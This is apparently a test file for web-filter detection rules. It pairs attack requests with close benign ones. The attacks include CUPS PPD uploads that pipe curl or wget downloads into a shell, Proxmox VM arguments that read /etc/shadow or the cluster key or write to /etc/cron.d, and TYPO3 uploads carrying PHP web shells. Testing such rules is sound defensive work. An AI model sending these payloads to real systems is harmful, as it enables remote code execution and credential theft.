/**
 * Bundled rules of rev 2026-12-18b (issue 18, session 37, ho37): mechanisms held-out-30's misses showed (read), each
 * written for the class rather than the product and kept only with no benign hit. Each fires on its attack, sent the way
 * such an exploit sends it, and stays quiet on the benign request closest to it: a foomatic PPD whose command line is a
 * Ghostscript pipeline, a VM's raw arguments passing a CoreOS ignition file or a whole disk, a PHP file calling system()
 * on its own variable.
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, postForm, postJson } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

/** A file field of a multipart form, as a browser's FormData sends an upload. */
function upload(url: string, name: string, filename: string, type: string, content: string): RequestSpec {
  return {
    method: 'POST',
    url,
    headers: [...BROWSER, ['Content-Type', 'multipart/form-data; boundary=----WebKitFormBoundaryh30']],
    body: `------WebKitFormBoundaryh30\r\nContent-Disposition: form-data; name="OP"\r\n\r\nadd-printer\r\n------WebKitFormBoundaryh30\r\nContent-Disposition: form-data; name="${name}"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n------WebKitFormBoundaryh30--\r\n`,
  };
}

const PPD_HEAD = '*PPD-Adobe: "4.3"\n*FormatVersion: "4.3"\n*LanguageVersion: English\n*Manufacturer: "HP"\n*ModelName: "HP LaserJet 4250"\n*NickName: "HP LaserJet 4250, 1.0"\n';
const ppd = (line: string): RequestSpec => upload('/admin/', 'PPD_FILE', 'office.ppd', 'application/vnd.cups-ppd', `${PPD_HEAD}${line}\n*DefaultPageSize: A4\n`);
const GS = 'gs -q -dBATCH -dPARANOIDSAFER -dQUIET -dNOPAUSE -sDEVICE=ps2write -sOutputFile=- -';
const EXT_LOCALCONF = "<?php\ndefined('TYPO3') or die();\n";
const extUpload = (php: string): RequestSpec => upload('/typo3/module/tools/extensionmanager', 'tx_extensionmanager_tools_extensionmanagerextensionmanager[extensionFile]', 'site_tools_1.0.0.zip', 'application/zip', `PK\x03\x04\x14\x00\x00\x00\x00\x00ext_localconf.php${php}`);

const CASES: RuleCase[] = [
  [9000394, 'block', 'a PPD whose foomatic command line is a bare probe', ppd('*cupsFilter2: "application/pdf application/vnd.cups-postscript 0 foomatic-rip"\n*FoomaticRIPCommandLine: "id"'), ppd(`*cupsFilter2: "application/pdf application/vnd.cups-postscript 0 foomatic-rip"\n*FoomaticRIPCommandLine: "${GS} | foo2zjs -z3 -p9 -r1200x600"`)],
  [9000394, 'block', 'a foomatic command line piping a download into a shell before Ghostscript', ppd(`*FoomaticRIPCommandLine: "curl http://203.0.113.7/y|bash;${GS}"`), ppd(`*FoomaticRIPCommandLine: "${GS}"`)],
  [9000394, 'block', 'a cupsPreFilter starting /bin/sh -c', ppd("*cupsPreFilter: \"application/pdf 0 /bin/sh -c 'wget -q -O- http://dl.example.net/x|sh'\""), ppd('*cupsFilter: "application/vnd.cups-raster 0 rastertogutenprint.5.3"')],
  [9000394, 'block', 'an echoed marker written into an IPP attribute that becomes a PPD line', postForm('/ipp/print', 'printer-privacy-policy-uri=https%3A%2F%2Fexample.net%2F%22%0A*FoomaticRIPCommandLine%3A+%22echo+q8Hd2kLw%22%0A*cupsFilter2+%3A+%22application%2Fpdf+application%2Fvnd.cups-postscript+0+foomatic-rip'), postForm('/ipp/print', 'printer-info=Office+printer&printer-location=Floor+2&printer-make-and-model=HP+LaserJet+4250')],
  [9000426, 'block', 'a QEMU monitor drive_add naming /etc/shadow', postForm('/api2/json/nodes/pve/qemu/101/monitor', 'command=drive_add+0+file%3D%2Fetc%2Fshadow%2Cformat%3Draw%2Cif%3Dnone%2Cid%3Dx1'), postForm('/api2/json/nodes/pve/qemu/101/monitor', 'command=drive_add+0+file%3D%2Fvar%2Flib%2Fvz%2Fimages%2F101%2Fscratch.qcow2%2Cif%3Dnone%2Cid%3Dx1')],
  [9000426, 'block', 'a VM\'s raw args reading the cluster\'s private key into fw_cfg', postForm('/api2/json/nodes/pve1/qemu/127/config', 'args=-fw_cfg+name%3Dopt%2Fx%2Cfile%3D%2Fetc%2Fpve%2Fpriv%2Fauthkey.key&digest=ef966cc0394f6defc24c5d6e026b5f487410eccc'), postForm('/api2/json/nodes/pve1/qemu/127/config', 'args=-fw_cfg+name%3Dopt%2Fcom.coreos%2Fconfig%2Cfile%3D%2Fvar%2Flib%2Fvz%2Fsnippets%2Fworker.ign&digest=ef966cc0394f6defc24c5d6e026b5f487410eccc')],
  [9000426, 'block', 'a chardev writing a serial port into /etc/cron.d', postJson('/api2/json/nodes/node01/qemu/102/config', '{"args":"-chardev file,id=x,path=/etc/cron.d/job -serial chardev:x"}'), postJson('/api2/json/nodes/node01/qemu/102/config', '{"args":"-drive file=/dev/disk/by-id/ata-WDC_WD40EFRX-68N32N0_WD-WCC7K1,if=virtio,format=raw -cpu host"}')],
  [9001300, 'block', 'an extension\'s ext_localconf.php whose second statement is passthru($_POST[...])', extUpload(`${EXT_LOCALCONF}passthru($_POST['cmd']);\n`), extUpload(`${EXT_LOCALCONF}$cmd = escapeshellcmd($binPath) . ' --version';\nsystem($cmd);\n`)],
  [9001300, 'block', 'a plugin file echoing shell_exec of a decoded request value after a namespace line', extUpload(`<?php\nnamespace Vendor\\Tools;\necho shell_exec(base64_decode($_REQUEST["c"]));\n`), postJson('/api/answers', JSON.stringify({ body: 'Never write system($_GET[\'x\']) in a controller: validate the input and use escapeshellarg().' }))],
];

describe('bundled rules from held-out-30\'s misses (rev 2026-12-18b)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
